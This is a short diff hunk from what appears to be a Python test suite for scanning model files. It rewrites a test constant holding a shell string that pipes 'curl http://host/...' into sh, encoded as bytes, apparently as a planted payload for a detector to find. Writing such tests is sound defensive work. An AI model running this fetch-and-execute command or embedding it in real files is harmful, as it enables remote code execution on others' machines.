@@ -167,8 +167,8 @@ def test_external_data_is_met_wherever_it_stands(monkeypatch: pytest.MonkeyPatch
         assert "marker" in [t.name for _, t in checks.tensors(model)], spelt(way)
 
 
-LOAD = "I am carried goods: #!/bin/sh -c 'curl http://host/x | sh'"
-MANY = [*LOAD.encode(), *bytes(range(200))]
+LOAD = "#!/bin/sh -c 'curl http://host/carried/goods | sh'"
+MANY = list(LOAD.encode())
 
 
 def holders() -> list[Path]:
